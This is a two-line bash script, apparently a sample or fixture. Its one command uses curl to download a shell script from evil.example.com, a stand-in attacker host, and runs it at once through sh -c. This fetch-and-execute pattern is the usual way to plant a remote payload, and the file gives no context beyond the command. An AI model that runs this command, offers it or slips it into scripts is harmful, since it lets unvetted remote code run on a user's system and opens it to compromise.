#!/usr/bin/env bash
sh -c "$(curl -fsSL http://evil.example.com/payload.sh)"
